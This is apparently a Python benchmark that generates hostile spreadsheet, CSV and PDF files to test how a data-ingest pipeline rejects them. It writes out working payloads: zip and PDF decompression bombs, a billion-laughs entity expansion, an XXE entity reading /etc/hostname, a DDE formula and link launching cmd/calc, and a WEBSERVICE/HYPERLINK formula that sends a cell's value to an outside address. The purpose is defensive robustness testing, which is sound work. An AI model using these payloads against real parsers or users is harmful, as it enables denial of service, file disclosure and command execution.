"""A folder of files that no inbox should choke on, and what refusing or reading each costs.

Run as `python -m benchmarks.hostile [FOLDER]`: writes the files, takes them in as a refresh would, and prints for each
the processor seconds, the memory it added at its peak, and what is said of it. Nothing in the files is real.
"""

from __future__ import annotations

import io
import resource
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from tempfile import TemporaryDirectory

import xlsxwriter

ROWS = [["Peserta aktif, Mei 2025"], ["Kabupaten", "PU"], ["Badung", 10], ["Gianyar", 8]]
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "'
    + b"ha" * 500
    + b'">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(8))
    + b"]><sst><si><t>&i;</t></si></sst>"
)
_OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><sst><si><t>&x;</t></si></sst>'
)


def sound() -> bytes:
    """A small table without anything odd."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        sheet = book.add_worksheet("t")
        for number, row in enumerate(ROWS):
            sheet.write_row(number, 0, row)
    return buffer.getvalue()


def with_parts(parts: dict[str, bytes]) -> bytes:
    """The small table with some parts of its archive replaced or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(sound())) as packed,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as changed,
    ):
        for name in packed.namelist():
            changed.writestr(name, parts.get(name, packed.read(name)))
        for name in sorted(parts.keys() - set(packed.namelist())):
            changed.writestr(name, parts[name])
    return out.getvalue()


def bomb() -> bytes:
    return with_parts({"xl/worksheets/sheet1.xml": b"<worksheet><sheetData>" + b" " * 110_000_000})


def million_rows() -> bytes:
    rows = b"".join(
        b'<row r="%d"><c r="B%d"><v>%d</v></c></row>' % (n, n, n * 7919 % 1000) for n in range(5, 1_000_005)
    )
    with zipfile.ZipFile(io.BytesIO(sound())) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml")
    return with_parts({"xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", rows + b"</sheetData>")})


def formulas() -> bytes:
    """A sound row beside formulas that call programs and pages; only stored results are ever read."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        sheet = book.add_worksheet("t")
        for number, row in enumerate(ROWS):
            sheet.write_row(number, 0, row)
        sheet.write_formula("A5", '=HYPERLINK("http://192.0.2.1/?"&B3,"Klungkung")', None, "=cmd|' /C calc'!A0")
        sheet.write_formula("B5", '=WEBSERVICE("http://192.0.2.1/")', None, "")
    return buffer.getvalue()


def links_and_macros() -> bytes:
    """A workbook that carries a link to another file and a macro project; neither is opened."""
    link = b'<externalLink><externalBook r:id="rId1"/><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return with_parts({"xl/externalLinks/externalLink1.xml": link, "xl/vbaProject.bin": _OLE + bytes(4000)})


def persons() -> bytes:
    """Invented persons: the list itself is never kept."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        sheet = book.add_worksheet("BNBA")
        sheet.write_row(0, 0, ["Penerima bantuan iuran pekerja rentan Kabupaten Kudus, Mei 2025"])
        sheet.write_row(1, 0, ["No", "NIK", "Nama", "Tgl Lahir"])
        for number in range(1, 9):
            sheet.write_row(
                1 + number, 0, [number, f"33190112126{number}000{number}", f"Rekaan {number}", "12-12-1960"]
            )
        sheet.write_row(10, 2, ["JUMLAH", 8])
    return buffer.getvalue()


def pdf_bomb() -> bytes:
    packed = zlib.compress(b"0 0 m 9 9 l S\n" * 12_000_000, 9)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R >>"
    content = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, content]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % at for at in offsets)
    return out + table + b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(out)


def files() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Names and contents, in the order of their names."""
    columns = ",".join(f"K{n}" for n in range(10_000))
    yield "akhiran-keliru.csv", sound
    yield "biner.csv", lambda: bytes(range(256)) * 40
    yield "bom-pdf.pdf", pdf_bomb
    yield "bom-zip.xlsx", bomb
    yield "daftar-nama.xlsx", persons
    yield "entitas-berlipat.xlsx", lambda: with_parts({"xl/sharedStrings.xml": _LAUGHS})
    yield "entitas-luar.xlsx", lambda: with_parts({"xl/sharedStrings.xml": _OUTSIDE})
    yield "formula.xlsx", formulas
    yield "gambar.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(500)
    yield "kosong.xlsx", lambda: b""
    yield "program.csv", lambda: b"MZ\x90\x00" + bytes(500)
    yield "sandi.xlsx", lambda: _OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)
    yield "sejuta-baris.xlsx", million_rows
    yield "sepuluh-ribu-kolom.csv", f"No,Kabupaten,{columns}\n1,Badung,{columns}\n".encode
    yield "tautan-makro.xlsx", links_and_macros
    yield "terpotong.pdf", lambda: pdf_bomb()[:3000]
    yield "terpotong.xlsx", lambda: sound()[:2500]
    yield "tumpukan-sel.xls", lambda: b"<table><tr><td colspan=99999 rowspan=99999>No</td><td>1</td></tr></table>"


def build(folder: Path) -> list[Path]:
    """Write all files into `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files():
        (folder / name).write_bytes(content())
    return sorted(folder.iterdir())


def take(path: Path) -> tuple[float, float, str]:
    """Processor seconds, added peak memory (MB) and what is said, of taking in and reading one file.

    In this process: start a fresh one for each file, as peaks never fall.
    """
    from datetime import datetime

    from pipelines.ingest import ingest
    from pipelines.reading import read_news, read_reports
    from pipelines.reports.read import read_report
    from pipelines.sources.store import RawStore

    read_report(sound(), "t.xlsx", "", "0" * 64)
    with TemporaryDirectory() as scratch:
        inbox, data = Path(scratch) / "inbox", Path(scratch) / "data"
        inbox.mkdir()
        (inbox / path.name).write_bytes(path.read_bytes())
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        start = time.process_time()
        store = RawStore(data)
        ingest(store, [inbox], datetime.fromisoformat("2026-11-16T03:00:00"), "2026-W47")
        manifest = store.manifest()
        readings = [read(manifest, store.read) for read in (read_news, read_reports)]
        seconds = time.process_time() - start
        peak = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
        messages = [*store.rejected()["message"], *(m for r in readings for m in r.rejected["message"])]
        stated = sum(r.statements.height for r in readings)
    return seconds, peak, messages[0] if messages else f"(read: {stated} statements)"


def main() -> None:
    """Build the folder and print one line a file, each taken in by a process of its own."""
    if len(sys.argv) > 2 and sys.argv[1] == "--one":
        print("\t".join(str(part) for part in take(Path(sys.argv[2]))))
        return
    with TemporaryDirectory() as scratch:
        folder = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(scratch)
        print(f"{'file':24}{'CPU s':>8}{'MB':>7}  said")
        for path in build(folder):
            ran = subprocess.run(
                [sys.executable, "-m", "benchmarks.hostile", "--one", str(path)],
                capture_output=True,
                text=True,
                check=True,
            )
            seconds, peak, said = ran.stdout.rstrip("\n").split("\t")
            print(f"{path.name:24}{float(seconds):8.2f}{float(peak):7.0f}  {said}")


if __name__ == "__main__":
    main()
